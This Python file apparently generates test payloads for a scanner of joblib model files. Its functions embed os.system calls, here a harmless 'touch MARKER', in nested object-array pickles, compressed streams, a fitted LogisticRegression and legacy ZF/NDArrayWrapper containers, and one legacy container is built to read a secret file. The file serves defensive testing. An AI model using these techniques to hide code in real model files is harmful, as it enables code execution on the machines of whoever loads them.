"""Families 5 and 6: hostile code hidden inside joblib's own containers.

Family 5: object-dtype arrays, which joblib stores as a *nested* pickle stream right after the
array's wrapper (joblib <= 1.5 read it with bare ``pickle.load``), also inside compressed files
and inside an otherwise genuine fitted estimator.
Family 6: joblib's legacy formats: the ``ZF`` zlib container and ``NDArrayWrapper`` /
``ZNDArrayWrapper``, which make joblib open a path named in the file.
"""

from __future__ import annotations

import os
import pickletools
import zlib

import numpy as np

from .helpers import COMPRESSORS, Reduce, compress, joblib_bytes
from .opcodes import Build, Call, Global, NewObj, assemble
from .registry import MALFORMED, Target, payload

F5 = "nested"
F6 = "legacy"


def _evil_object_array(t: Target) -> np.ndarray:
    return np.array([Reduce(os.system, t.touch), "x"], dtype=object)


@payload("nested-object-array-os.system", F5, mentions=("system",))
def nested_plain(t: Target) -> bytes:
    """joblib file of an object array whose nested pickle calls ``os.system('touch MARKER')``."""
    return joblib_bytes(_evil_object_array(t))


@payload("nested-object-array-zlib", F5, mentions=("system",))
def nested_zlib(t: Target) -> bytes:
    """The nested os.system pickle inside a zlib-compressed joblib file."""
    return joblib_bytes(_evil_object_array(t), compress="zlib")


@payload("nested-object-array-lz4-sandbox", F5, mentions=("system",), sandbox=True)
def nested_lz4(t: Target) -> bytes:
    """The nested os.system pickle inside an lz4-compressed joblib file, sandbox on."""
    return joblib_bytes(_evil_object_array(t), compress="lz4")


@payload("nested-in-fitted-estimator-feature_names_in_", F5, mentions=("system",))
def nested_estimator(t: Target) -> bytes:
    """A genuine fitted LogisticRegression whose ``feature_names_in_`` object array holds an
    ``os.system('touch MARKER')`` call; the outer stream is all genuine names (gzip file)."""
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.array([[0.0, 1.0], [1.0, 0.0]] * 5), [0, 1] * 5)
    model.feature_names_in_ = np.array([Reduce(os.system, t.touch), "b"], dtype=object)
    return joblib_bytes(model, compress="gzip")


@payload("nested-hand-spliced-stream", F5, mentions=("system",))
def nested_spliced(t: Target) -> bytes:
    """A genuine joblib object-array file whose nested stream is swapped for a hand-assembled
    protocol 2 ``GLOBAL os system`` + REDUCE (the outer wrapper is untouched)."""
    genuine = joblib_bytes(np.array(["a", "b"], dtype=object), protocol=2)
    start = genuine.index(b"\x80", 2)  # second PROTO: the nested stream
    stop = max(pos for _, _, pos in pickletools.genops(genuine[start:]))
    evil = assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)
    return genuine[:start] + evil + genuine[start + stop + 1 :]


@payload("nested-pickle-in-bytes-numpy.loads", F5, mentions=("loads", "pickle"))
def nested_bytes_numpy(t: Target) -> bytes:
    """``numpy._core.numeric.pickle.loads(BYTES)`` via dotted name: a nested stream in a bytes
    value handed to an unpickler reached from an allowed module."""
    inner = assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)
    loads = Global("numpy._core.numeric", "pickle.loads", "stack")
    return assemble(Call(loads, (inner,)), protocol=4)


def _compressed_os_system(method: str):
    def build(t: Target) -> bytes:
        return compress(assemble(Call(Global("os", "system"), (t.touch,)), protocol=2), method)

    build.__doc__ = f"A {method}-compressed stream (joblib magic) of ``os.system('touch MARKER')``."
    return build


for _method in COMPRESSORS:
    payload(f"compressed-{_method}-os.system", F5, mentions=("system",))(
        _compressed_os_system(_method)
    )


# -- Family 6: legacy containers --------------------------------------------------------------

_ZF_LEN = len(f"{2**64:#x}")  # joblib.numpy_pickle_compat._MAX_LEN


def _zfile(data: bytes) -> bytes:
    return b"ZF" + f"{len(data):#x}".ljust(_ZF_LEN).encode() + zlib.compress(data)


@payload("legacy-ZF-container-os.system", F6, expect=MALFORMED)
def legacy_zf(t: Target) -> bytes:
    """Legacy ``ZF`` zlib container holding ``os.system('touch MARKER')``."""
    return _zfile(assemble(Call(Global("os", "system"), (t.touch,)), protocol=2))


@payload("legacy-ZF-container-sandbox", F6, expect=MALFORMED, sandbox=True)
def legacy_zf_sandbox(t: Target) -> bytes:
    """Legacy ``ZF`` container holding ``os.system('touch MARKER')``, sandbox on."""
    return _zfile(assemble(Call(Global("os", "system"), (t.touch,)), protocol=2))


@payload("legacy-NDArrayWrapper-newobj", F6, expect=MALFORMED)
def legacy_ndarray_wrapper(t: Target) -> bytes:
    """``joblib.numpy_pickle.NDArrayWrapper`` naming an absolute EVIL path: joblib would call
    ``np.load(path, allow_pickle=True)``, which unpickles it (os.system)."""
    state = {
        "filename": str(t.evil_pickle("legacy_array.npy")),
        "subclass": Global("numpy", "ndarray"),
        "allow_mmap": False,
    }
    wrapper = Build(NewObj(Global("joblib.numpy_pickle", "NDArrayWrapper")), state)
    return assemble(wrapper, protocol=2)


@payload("legacy-NDArrayWrapper-reconstructor", F6, expect=MALFORMED)
def legacy_ndarray_wrapper_compat(t: Target) -> bytes:
    """Protocol 0/1-era ``copyreg._reconstructor(NDArrayWrapper, object, None)`` + BUILD of a
    state naming an absolute EVIL path (np.load with allow_pickle)."""
    cls = Global("joblib.numpy_pickle_compat", "NDArrayWrapper")
    obj = Call(Global("copyreg", "_reconstructor"), (cls, Global("builtins", "object"), None))
    state = {"filename": str(t.evil_pickle("legacy_array.npy")), "subclass": None}
    return assemble(Build(obj, state), protocol=1)


@payload("legacy-ZNDArrayWrapper-reader", F6, expect=MALFORMED)
def legacy_zndarray_wrapper(t: Target) -> bytes:
    """``ZNDArrayWrapper`` naming a server ZF file: joblib reads and inflates that path."""
    secret_zf = t.tmp / "secret.z"
    secret_zf.write_bytes(_zfile(t.secret.read_bytes()))
    state = {
        "filename": str(secret_zf),
        "init_args": (Global("numpy", "ndarray"), (0,), "b"),
    }
    wrapper = Build(NewObj(Global("joblib.numpy_pickle", "ZNDArrayWrapper")), state)
    return assemble(wrapper, protocol=2)
